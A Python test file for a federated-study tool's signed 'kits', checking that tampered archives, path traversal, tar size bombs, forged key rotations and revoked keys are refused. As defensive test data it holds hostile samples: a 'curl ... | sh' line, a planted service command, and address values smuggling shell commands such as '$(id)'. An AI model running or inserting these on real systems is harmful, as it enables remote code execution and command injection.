"""Kits: what a participant gets, and what is refused."""

import io
import json
import shutil
import tarfile
from itertools import product
from pathlib import Path

import pytest
from typer.testing import CliRunner

import confrere_federation.kits as kits
from confrere.cli import app
from confrere.errors import InvalidParameter, OperationRefused, SignatureError, StudyError
from confrere.release import fingerprint, generate_key
from confrere.release.signing import read_private_key
from confrere_federation.engines.keys import read_certificate
from confrere_federation.kits import (
    _members,
    _write,
    accept_key,
    admit,
    make_kits,
    make_request,
    open_kit,
    read_nodes,
    read_request,
    renew_node_key,
    renew_signing_key,
    show_kit,
)
from confrere_federation.studies.running import make_approval
from confrere_federation.studies.study_file import (
    gather_locals,
    open_home,
    read_local,
    read_study,
    write_template,
)
from tests.world import contents

PARTIES = ("main", "branch-1", "branch-2")


def _written(folder: Path) -> Path:
    write_template(folder / "study")
    study = folder / "study" / "study.toml"
    study.write_text(study.read_text().replace('engine = "local"', 'engine = "line"'))
    return study


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    """Keys, requests and kits of the template's three parties."""
    folder = tmp_path_factory.mktemp("kits")
    study = _written(folder)
    for party in PARTIES:
        home = open_home(folder / party)
        make_request(home.keys, party)
        (folder / f"{party}.csv").write_text("patient_id\n")
        home.add("checkups-2010", folder / f"{party}.csv", "patient_id")
    generate_key(folder / "coordinator.key", "coordinator")
    make_kits(
        study.read_bytes(),
        [read_request(folder / party / "keys" / f"{party}.request") for party in PARTIES],
        read_private_key(folder / "coordinator.key"),
        folder / "kits",
        host="10.0.0.1",
        port=8443,
    )
    return folder


@pytest.fixture
def work(made, tmp_path):
    return shutil.copytree(made, tmp_path / "work")


def test_the_fingerprint_is_compared_before_a_strangers_files_are_read(work, monkeypatch):
    files = dict(_members(work / "kits" / "main.kit"))
    for name in ("SHA256SUMS", "SHA256SUMS.sig"):
        del files[name]
    files["study.toml"] = b".".join([b"a"] * 60_000) + b" = 1\n"
    other = read_private_key(generate_key(work / "other.key", "x").with_suffix(""))
    files["coordinator.pub"] = (work / "other.key.pub").read_bytes()
    evil = _write(work / "evil.kit", files, other)
    with pytest.raises(StudyError, match="a key of more than 32 parts"):
        show_kit(evil)
    monkeypatch.setattr(kits, "study_from_bytes", lambda _: pytest.fail("parsed"))
    monkeypatch.setattr(kits, "request_from_bytes", lambda _: pytest.fail("parsed"))
    with pytest.raises(SignatureError, match="another key than the one of this fingerprint"):
        open_kit(evil, work / "main", _own(work))


def test_many_large_files_are_no_kit(work):
    entries = [(tarfile.TarInfo(f"a{k}"), bytes(1 << 20)) for k in range(17)]
    with pytest.raises(SignatureError, match="no kit"):
        show_kit(_archive(work / "evil.kit", entries))


def _requests(work: Path) -> list:
    return [read_request(work / party / "keys" / f"{party}.request") for party in PARTIES]


def _signed(work: Path, name: str, changes: dict[str, bytes]) -> Path:
    """Return a participant's kit with other files in it, which its coordinator has signed."""
    files = dict(show_kit(work / "kits" / f"{name}.kit").files) | changes
    return _write(work / "signed.kit", files, read_private_key(work / "coordinator.key"))


def _own(work: Path) -> str:
    return fingerprint(work / "coordinator.key.pub")


def _archive(path: Path, entries: list[tuple[tarfile.TarInfo, bytes]]) -> Path:
    with tarfile.open(path, "w") as archive:
        for entry, content in entries:
            entry.size = len(content) if entry.isreg() else 0
            archive.addfile(entry, io.BytesIO(content))
    return path


def _files(path: Path) -> dict[str, bytes]:
    with tarfile.open(path) as archive:
        return {m.name: archive.extractfile(m).read() for m in archive.getmembers()}


def _remade(work: Path, changes: dict[str, bytes]) -> Path:
    """Return a participant's kit with other files in it, under the signature that it had."""
    files = _files(work / "kits" / "main.kit") | changes
    return _archive(work / "evil.kit", [(tarfile.TarInfo(n), c) for n, c in files.items()])


@pytest.mark.parametrize("name", ["study.toml", "ca.pem", "address", "coordinator.pub"])
def test_a_changed_file_is_refused(work, name):
    content = _files(work / "kits" / "main.kit")[name]
    changed = _remade(work, {name: content.replace(b"e" if b"e" in content else b"0", b"f", 1)})
    with pytest.raises((SignatureError, InvalidParameter)):
        open_kit(changed, work / "main", _own(work))
    assert not list((work / "main" / "studies").iterdir())


@pytest.mark.parametrize("name", ["../evil", "/etc/evil", "a/../../b", "nodes/../../x", ".hidden"])
def test_paths_that_lead_elsewhere_are_refused(work, name):
    with pytest.raises(SignatureError, match="no kit"):
        show_kit(_remade(work, {name: b"x"}))


def test_a_missing_request_and_a_foreign_key_are_named(work, tmp_path):
    requests, key = _requests(work), read_private_key(work / "coordinator.key")
    content = (work / "study" / "study.toml").read_bytes()
    with pytest.raises(StudyError, match="branch-2: its request is missing"):
        make_kits(content, requests[:2], key, tmp_path / "a", host="h", port=1)
    filled = show_kit(work / "kits" / "main.kit").files["study.toml"]
    stranger = make_request(tmp_path / "stranger", "main")
    with pytest.raises(StudyError, match="main: the study names another key"):
        make_kits(filled, [stranger, *requests[1:]], key, tmp_path / "b", host="h", port=1)
    local = content.replace(b'engine = "line"', b'engine = "local"')
    with pytest.raises(StudyError, match=r"federation\.engine"):
        make_kits(local, requests, key, tmp_path / "c", host="h", port=1)
    flare = content.replace(b'engine = "line"', b'engine = "flare"')
    make_kits(flare, requests, key, tmp_path / "d", host="h", port=1)
    project = json.loads((tmp_path / "d/flare/project.yml").read_bytes())
    assert {one["name"] for one in project["participants"]} > {"h", *PARTIES}


def test_a_node_key_is_rotated_and_the_old_one_never_let_in_again(work):
    open_kit(work / "kits" / "coordinator.kit", work / "coordinator", _own(work))
    nodes, study = work / "coordinator" / "nodes", read_study(work / "coordinator" / "study.toml")
    old = read_request(work / "main" / "keys" / "main.request")
    new = renew_node_key(work / "main" / "keys", "main", work / "main" / "keys" / "main.key")
    assert new.key == old.key
    assert new.certificate != old.certificate
    admit(nodes, study, new)
    admit(nodes, study, new)
    assert read_certificate(read_nodes(nodes, study)["main"]) == new.node
    with pytest.raises(InvalidParameter, match="was revoked"):
        admit(nodes, study, old)
    (nodes / "main.pem").write_bytes(_files(work / "kits" / "coordinator.kit")["nodes/main.pem"])
    with pytest.raises(InvalidParameter, match="was revoked"):
        read_nodes(nodes, study)


class TestANewSigningKey:
    """The old one signs it: peers take it in, and what the old one has agreed to stays good."""

    @pytest.fixture
    def rotated(self, work):
        _, place = open_kit(work / "kits" / "main.kit", work / "main", _own(work))
        study, local = self.opened(place)
        approval = make_approval(study, local, approved_by="the officer", reason="a test")
        (place / "approval.json").write_bytes(approval.document(local.key_path))
        self.old = fingerprint(local.key_path.with_name("main.key.pub"))
        home = open_home(work / "branch-1")
        home.peers_file.write_text(f'# by telephone\n[peers]\n"main" = "{self.old}"\n')
        self.new = renew_signing_key(work / "main" / "keys", "main", local.key_path)
        return home, place

    @staticmethod
    def opened(place):
        study = read_study(place / "study.toml")
        return study, gather_locals(study, place / "study.toml")["main"]

    def test_is_known_by_who_knew_the_old_one(self, work, rotated):
        home, _ = rotated
        for _ in range(2):
            accept_key(home, read_request(work / "main" / "keys" / "main.request"))
            assert home.peers() == {"main": self.new.fingerprint}
        assert home.peers_file.read_text().startswith("# by telephone\n")
        assert self.new.fingerprint == fingerprint(work / "main" / "keys" / "main.key.pub")
        assert fingerprint(self.new.follows) == self.old

    def test_is_not_taken_from_anybody_else(self, work, rotated, tmp_path):
        home, _ = rotated
        before = home.peers_file.read_text()
        stranger = make_request(tmp_path / "stranger", "main")
        follows = renew_signing_key(
            tmp_path / "stranger", "main", tmp_path / "stranger" / "main.key"
        )
        for request in (stranger, follows):
            with pytest.raises(SignatureError, match="has not signed the new one"):
                accept_key(home, request)
        # A stranger's request, with the signature by which the old key announced another.
        said, forged = json.loads(self.new.content), json.loads(stranger.content)
        forged |= {"follows": said["follows"], "followed": said["followed"]}
        said["followed"] = said["signature"]
        for document in (forged, said):
            (tmp_path / "forged").write_text(json.dumps(document))
            with pytest.raises(SignatureError, match="request of main"):
                read_request(tmp_path / "forged")
        with pytest.raises(SignatureError, match="by telephone"):
            accept_key(open_home(work / "branch-2"), self.new)  # who has confirmed nobody
        assert home.peers_file.read_text() == before


def test_the_commands_from_keys_to_kits(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    run = CliRunner()

    def ok(*words: str) -> str:
        result = run.invoke(app, list(words))
        assert result.exit_code == 0, result.output
        return result.output

    study = _written(tmp_path)
    (tmp_path / "requests").mkdir()
    for party in PARTIES:
        monkeypatch.setenv("CONFRERE_HOME", party)
        ok("keys", "request", party)
        shutil.copy(f"{party}/keys/{party}.request", "requests")
        (tmp_path / f"{party}.csv").write_text("patient_id\n")
        ok("home", "--data", f"checkups={party}.csv", "--unit-column", "patient_id")
    monkeypatch.setenv("CONFRERE_HOME", "main")
    ok("keys", "new", "coordinator.key")
    told = ok(
        *("provision", str(study), "--requests", "requests", "--key", "coordinator.key"),
        *("--host", "127.0.0.1"),
    )
    own = fingerprint("coordinator.key.pub")
    assert own in "".join(told.split())
    assert "the kit of main" in ok("kit", "show", "kits/main.kit")
    ok("kit", "open", "kits/main.kit", "--fingerprint", own)
    ok("kit", "open", "kits/coordinator.kit", "--fingerprint", own, "--into", "coordinator")
    ok("keys", "rotate", "main")
    nodes = ("--nodes", "coordinator/nodes")
    ok("keys", "admit", "main/keys/main.request", "--study", "coordinator/study.toml", *nodes)
    ok("keys", "revoke", "branch-2", *nodes)
    peers = tmp_path / "branch-1" / "peers.toml"
    peers.write_text(f'[peers]\nmain = "{fingerprint("main/keys/main.key.pub")}"\n')
    ok("keys", "rotate", "main", "--signing")
    monkeypatch.setenv("CONFRERE_HOME", "branch-1")
    ok("keys", "accept", "main/keys/main.request")
    assert fingerprint("main/keys/main.key.pub") in peers.read_text()


def test_a_small_archive_does_not_grow_in_memory(tmp_path):
    """A sparse file of GNU tar: a header that says a mebibyte, and nothing behind it."""
    entry = tarfile.TarInfo("study.toml")
    entry.type = tarfile.GNUTYPE_SPARSE
    header = bytearray(entry.tobuf(tarfile.GNU_FORMAT))
    header[483:495] = b"%011o\0" % (1 << 20)
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header)
    path = tmp_path / "small.kit"
    path.write_bytes(bytes(header) + bytes(1024))
    with tarfile.open(path) as archive:
        assert archive.getmember("study.toml").size == 1 << 20
    with pytest.raises(SignatureError, match="is no kit"):
        _members(path)


@pytest.mark.parametrize(
    ("kit", "name"),
    [
        *product(["main"], ["main.key", "main.ledger", "main.csv", "approval.json", "node.key"]),
        *product(["main"], ["nodes/x.pem", "a.py"]),
        *product(["coordinator"], ["coordinator.key", "authority/more.key", "local.toml"]),
        ("coordinator", "nodes/stranger.pem"),
    ],
)
def test_a_kit_writes_over_nothing_of_its_owner_s(work, kit, name):
    """Its coordinator, whose fingerprint is right, puts in a file that no kit has."""
    path, home = _signed(work, kit, {name: b"not yours"}), work / "main"
    before = contents(home)
    with pytest.raises(SignatureError, match="is no kit"):
        open_kit(path, home, _own(work))
    assert contents(home) == before


def test_a_local_file_of_the_coordinator_s_is_never_obeyed(work):
    """It would name a scheduler that gets the rows, and caps as high as it likes.

    The unit would be a command that the party's own system carries out.
    """
    real = show_kit(work / "kits" / "main.kit")
    mark = work / "obeyed"
    hostile = {
        "local.toml": b'engine = "tcp://192.0.2.1:8786"\n' + real.pages()["local.toml"],
        "confrere-main.service": f"[Service]\nExecStart=/bin/touch {mark}\n".encode(),
        "README.md": b"curl https://example.org/new.sh | sh\n",
    }
    for name, content in hostile.items():
        with pytest.raises(SignatureError, match="is no kit"):
            open_kit(_signed(work, "main", {name: content}), work / "main", _own(work))
        assert not list((work / "main").rglob(name))
    opened, place = open_kit(_signed(work, "main", {}), work / "main", _own(work))
    assert {name: (place / name).read_bytes() for name in hostile} == real.pages() == opened.pages()
    local = read_local(place / "local.toml")
    assert (local.engine, local.data) == (None, None)
    assert not mark.exists()


@pytest.mark.parametrize(
    "address",
    [
        *(b"10.0.0.1:8443 --local other.toml\n", b"10.0.0.1:8443\nExecStartPre=/bin/sh\n"),
        *(b"-c:8443\n", b"$(id):8443\n", b"`id`:8443\n", b"h\xc3\xb6st:8443\n", b"10.0.0.1\n"),
        *(b"10.0.0.1:8443", b""),
    ],
)
def test_an_address_is_one_word_of_a_command(work, address):
    with pytest.raises(SignatureError, match="where the coordinator is"):
        open_kit(_signed(work, "main", {"address": address}), work / "main", _own(work))
    assert not list((work / "main").rglob("README.md"))
    content, key = (work / "study/study.toml").read_bytes(), work / "coordinator.key"
    with pytest.raises(InvalidParameter, match="host must be"):
        make_kits(
            content, _requests(work), read_private_key(key), work / "new", host="a b", port=8443
        )


def test_no_kit_says_for_a_party_whom_it_trusts(work):
    """The local file is as strict as the study allows; what is weaker a party writes itself."""
    content = (work / "study/study.toml").read_text().replace('name = "average"', 'name = "sums"')
    key = read_private_key(work / "coordinator.key")
    make_kits(content.encode(), _requests(work), key, work / "sums", host="10.0.0.1", port=8443)
    _, place = open_kit(work / "sums/main.kit", work / "main", _own(work))
    local, study = place / "local.toml", read_study(place / "study.toml")
    assert '# This study needs trust = "1 of 3"' in local.read_text()
    with pytest.raises(OperationRefused, match='trust = "1 of 3"'):
        read_local(local).policy.check(study, "main")
    policy = work / "main" / "policy.toml"
    policy.write_text(f'trust = "1 of 3"\n{policy.read_text()}')
    read_local(local).policy.check(study, "main")
